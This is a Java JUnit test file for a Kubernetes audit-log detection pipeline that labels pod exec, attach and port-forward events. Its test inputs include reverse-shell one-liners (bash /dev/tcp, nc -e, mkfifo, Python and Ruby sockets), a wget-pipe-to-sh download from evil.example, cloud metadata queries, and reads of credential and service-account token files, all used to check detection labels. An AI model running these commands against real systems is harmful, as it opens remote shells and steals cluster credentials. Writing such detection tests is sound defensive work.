package io.kubeaudit.detection;

import io.kubeaudit.testing.Ev;
import org.junit.jupiter.api.Test;

import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

/** §2.2 exec_ labels and the command decoding of §1.8. */
class ExecLabelsTest {
    private final Pipeline p = new Pipeline();

    /** An allowed exec (kubectl < 1.30: verb create) running the given argv. */
    static Ev exec(String query, String... argv) {
        StringBuilder q = new StringBuilder();
        for (String a : argv) {
            q.append("command=").append(URLEncoder.encode(a, StandardCharsets.UTF_8)).append('&');
        }
        q.append(query);
        return Ev.request().object("pods", "shop", "web-1").subresource("exec").verb("create").stage("ResponseStarted")
                .code(101).uri("/api/v1/namespaces/shop/pods/web-1/exec?" + q);
    }

    private Detection run(Ev e) {
        return p.one(e.json());
    }

    @Test
    void interactiveShell() {
        Detection d = run(exec("container=app&stdin=true&stdout=true&tty=true", "/bin/bash"));
        assertTrue(d.labels().containsAll(List.of("exec_into_pod", "exec_shell_invoked", "exec_interactive_shell")), d.labels().toString());
        assertEquals("/bin/bash", d.execCommand());
        Detection script = run(exec("stdout=true", "sh", "-c", "ls /"));
        assertTrue(script.labels().contains("exec_shell_invoked"));
        assertFalse(script.labels().contains("exec_interactive_shell"), "a -c script without a tty is not interactive");
        assertEquals("sh -c ls /", script.execCommand());
        Detection websocket = run(exec("tty=1&stdin=1", "zsh").verb("get"));
        assertTrue(websocket.labels().contains("exec_interactive_shell"), "kubectl >= 1.30 execs with verb get");
        Detection pythonClient = run(exec("stdin=True&stdout=True&tty=True", "/bin/sh", "-c", "id"));
        assertTrue(pythonClient.labels().contains("exec_interactive_shell"), "flags as the API server reads them: not 0 or false");
        Detection firstWins = run(exec("tty=FALSE&tty=1", "/bin/sh", "-c", "id"));
        assertFalse(firstWins.labels().contains("exec_interactive_shell"), "the API server reads a flag's first value");
        Detection windows = run(exec("stdin=true&tty=true", "C:\\Windows\\System32\\cmd.exe"));
        assertTrue(windows.labels().containsAll(List.of("exec_shell_invoked", "exec_interactive_shell")), windows.labels().toString());
        Detection cmdScript = run(exec("stdout=true", "cmd.exe", "/c", "whoami"));
        assertTrue(cmdScript.labels().contains("exec_shell_invoked"));
        assertFalse(cmdScript.labels().contains("exec_interactive_shell"), "cmd /c runs a script, as sh -c does");
        Detection psScript = run(exec("stdout=true", "powershell.exe", "-Command", "Get-ChildItem"));
        assertTrue(psScript.labels().contains("exec_shell_invoked"));
        assertFalse(psScript.labels().contains("exec_interactive_shell"), "-Command is PowerShell's -c");
        Detection attachFirst = p.one(Ev.request().object("pods", "shop", "web-1").subresource("attach").verb("create")
                .stage("ResponseStarted").code(101).uri("/api/v1/namespaces/shop/pods/web-1/attach?stdin=0&stdin=true&tty=true").json());
        assertFalse(attachFirst.labels().contains("exec_interactive_shell"), "attach: stdin is its first value, 0");
    }

    @Test
    void wrappersAreStrippedToFindTheProgram() {
        assertTrue(run(exec("", "/usr/bin/env", "-i", "HOME=/root", "bash")).labels().contains("exec_shell_invoked"));
        assertTrue(run(exec("", "busybox", "sh")).labels().contains("exec_shell_invoked"));
        assertTrue(run(exec("", "env", "-u", "X", "curl", "-s", "http://example.com")).labels().contains("exec_tool_command"));
        assertTrue(run(exec("", "/usr/bin/python3.11", "-c", "print(1)")).labels().contains("exec_tool_command"), "versioned binary");
        assertTrue(run(exec("", "sh", "-c", "perl5.36.0 -e 'print 1'")).labels().contains("exec_tool_command"));
        assertFalse(run(exec("", "/app/server2.1")).labels().contains("exec_tool_command"));
        assertFalse(run(exec("", "ssh2", "host")).labels().contains("exec_tool_command"), "only a dotted version is dropped");
        assertTrue(run(exec("", "ruby3.2", "-rsocket", "-e", "c=TCPSocket.new('203.0.113.9',4444)")).labels()
                .containsAll(List.of("exec_tool_command", "exec_reverse_shell")), "versioned interpreters in the reverse-shell forms too");
        assertTrue(run(exec("", "sh", "-lc", "wget -qO- https://evil.example/x.sh | sh")).labels()
                .containsAll(List.of("exec_tool_command", "exec_remote_download")));
    }

    @Test
    void queryPairsTheApiServerDropsAreNotPartOfTheCommand() {
        // Go's url.ParseQuery drops a pair with a broken escape or a ';': it never runs, and must not become argv0
        for (String decoy : new String[] {"command=x%zz", "command=a;b", "command=%", "x%zz=1", "command=%+1", "command=%-0",
            "command=%\u0663\u0663"}) {
            Detection d = run(exec("", "bash").uri("/api/v1/namespaces/shop/pods/web-1/exec?" + decoy
                    + "&command=bash&stdin=true&tty=true"));
            assertEquals("bash", d.execCommand(), decoy);
            assertTrue(d.labels().containsAll(List.of("exec_shell_invoked", "exec_interactive_shell")), decoy + " " + d.labels());
        }
        Detection tar = run(exec("", "tar").uri("/api/v1/namespaces/shop/pods/web-1/exec?command=x%zz&command=tar&command=cf"
                + "&command=-&command=%2Fetc&stdout=true"));
        assertEquals("tar cf - /etc", tar.execCommand());
        assertTrue(tar.labels().contains("exec_copy_from_pod"), tar.labels().toString());
    }

    @Test
    void commandContentLabels() {
        assertTrue(run(exec("", "bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1")).labels().contains("exec_reverse_shell"));
        assertTrue(run(exec("", "nc", "203.0.113.9", "4444", "-e", "/bin/sh")).labels().contains("exec_reverse_shell"));
        assertFalse(run(exec("", "nc", "-zv", "db", "5432")).labels().contains("exec_reverse_shell"), "port checks are not shells");
        assertTrue(run(exec("", "python3", "-c", "import socket,os;s=socket.socket();s.connect((\"1.2.3.4\",9))")).labels()
                .contains("exec_reverse_shell"));
        assertTrue(run(exec("", "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9 >/tmp/f")).labels()
                .contains("exec_reverse_shell"));
        assertTrue(run(exec("", "curl", "-s", "http://169.254.169.254/latest/meta-data/iam/")).labels()
                .contains("exec_cloud_metadata_access"));
        assertTrue(run(exec("", "cat", "/etc/kubernetes/admin.conf")).labels().contains("exec_credential_file_access"));
        assertTrue(run(exec("", "cat", "/tmp/server.key")).labels().contains("exec_credential_file_access"));
        assertTrue(run(exec("", "cat", "/proc/1/environ")).labels().contains("exec_credential_file_access"));
        Detection token = run(exec("", "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token"));
        assertTrue(token.labels().contains("exec_sa_token_access"));
        assertFalse(token.labels().contains("exec_credential_file_access"), "the SA token has its own label");
        Detection eksToken = run(exec("", "cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"));
        assertTrue(eksToken.labels().contains("exec_sa_token_access"));
        assertFalse(eksToken.labels().contains("exec_credential_file_access"));
        assertFalse(run(exec("", "curl", "http://localhost:8080/metrics")).labels().contains("exec_remote_download"));
        assertFalse(run(exec("", "curl", "https://api.shop.svc.cluster.local/x")).labels().contains("exec_remote_download"));
        assertFalse(run(exec("", "echo", "https://evil.example")).labels().contains("exec_remote_download"), "no curl or wget");
    }

    @Test
    void kubectlCpFromAPodIsATarToStdout() {
        assertTrue(run(exec("", "tar", "cf", "-", "/data")).labels().contains("exec_copy_from_pod"));
        assertTrue(run(exec("", "tar", "-czf", "-", "-C", "/data", ".")).labels().contains("exec_copy_from_pod"));
        assertTrue(run(exec("", "tar", "--create", "--file=-", "/data")).labels().contains("exec_copy_from_pod"));
        assertFalse(run(exec("", "tar", "xf", "-", "-C", "/tmp")).labels().contains("exec_copy_from_pod"), "copy to a pod");
        assertFalse(run(exec("", "tar", "cf", "/tmp/x.tar", "/data")).labels().contains("exec_copy_from_pod"));
    }

    @Test
    void whoAndWhereFrom() {
        Detection sa = run(exec("tty=true&stdin=true", "sh").serviceAccount("ci", "runner"));
        assertTrue(sa.labels().contains("exec_by_service_account"));
        Detection fromPod = run(exec("", "id").serviceAccount("ci", "runner").extra("authentication.kubernetes.io/pod-name", "runner-0"));
        assertTrue(fromPod.labels().contains("exec_from_pod"));
        DetectionConfig podNet = DetectionConfig.withOverrides("[list:pod_cidrs]\nvalues = 10.244.0.0/16\n");
        assertTrue(new Pipeline(podNet).labels(exec("", "id").ip("10.244.3.7").json()).contains("exec_from_pod"));
        Detection system = run(exec("", "sh").object("pods", "kube-system", "coredns-1").subresource("exec"));
        assertTrue(system.labels().contains("exec_system_namespace"));
        Detection denied = run(exec("", "sh").denied());
        assertTrue(denied.labels().contains("exec_denied"));
        assertFalse(denied.labels().contains("exec_into_pod"));
    }

    @Test
    void attachPortForwardEphemeral() {
        Ev attach = Ev.request().object("pods", "shop", "web-1").subresource("attach").verb("create").code(101)
                .uri("/api/v1/namespaces/shop/pods/web-1/attach?container=app&stdin=true&stdout=true&tty=true");
        assertTrue(p.labels(attach.json()).containsAll(List.of("exec_attach_pod", "exec_interactive_shell")));
        Ev pf = Ev.request().object("pods", "db", "pg-0").subresource("portforward").verb("create").code(101);
        assertTrue(p.labels(pf.json()).contains("exec_portforward"));
        Ev debug = Ev.request().object("pods", "shop", "web-1").subresource("ephemeralcontainers").verb("patch")
                .body("{\"spec\":{\"ephemeralContainers\":[{\"name\":\"debugger\",\"image\":\"busybox\",\"securityContext\":{\"privileged\":true}}]}}");
        List<String> l = p.labels(debug.json());
        assertTrue(l.containsAll(List.of("exec_ephemeral_container", "pod_privileged_container", "pod_debug_or_base_image")), l.toString());
    }

    @Test
    void gkeExecWithoutQueryStringReadsTheBody() {
        String gke = "{\"protoPayload\":{\"@type\":\"type.googleapis.com/google.cloud.audit.AuditLog\",\"serviceName\":\"k8s.io\","
                + "\"methodName\":\"io.k8s.core.v1.pods.exec.create\",\"resourceName\":\"core/v1/namespaces/shop/pods/web/exec\","
                + "\"authenticationInfo\":{\"principalEmail\":\"dev@example.com\"},\"requestMetadata\":{\"callerIp\":\"10.1.2.3\"},"
                + "\"request\":{\"@type\":\"core.k8s.io/v1.PodExecOptions\",\"command\":[\"/bin/sh\"],\"stdin\":true,\"tty\":true},"
                + "\"status\":{}},\"timestamp\":\"2024-01-01T00:00:00Z\"}";
        Detection d = p.one(gke);
        assertTrue(d.labels().containsAll(List.of("exec_into_pod", "exec_interactive_shell")), d.labels().toString());
        assertEquals("/bin/sh", d.execCommand());
    }

    @Test
    void allowlistRowsSilenceRoutineExecs() {
        DetectionConfig cfg = DetectionConfig.withOverrides("[exec_allow:cilium-status]\nnamespace = kube-system\npod = cilium-*\n"
                + "command = cilium status*\n");
        Ev routine = exec("", "cilium", "status", "--brief").object("pods", "kube-system", "cilium-x7").subresource("exec")
                .user("system:serviceaccount:ops:monitor");
        List<String> l = new Pipeline(cfg).labels(routine.json());
        assertFalse(l.contains("exec_into_pod"), l.toString());
        Ev other = exec("", "sh").object("pods", "kube-system", "cilium-x7").subresource("exec");
        assertTrue(new Pipeline(cfg).labels(other.json()).contains("exec_into_pod"));
    }
}
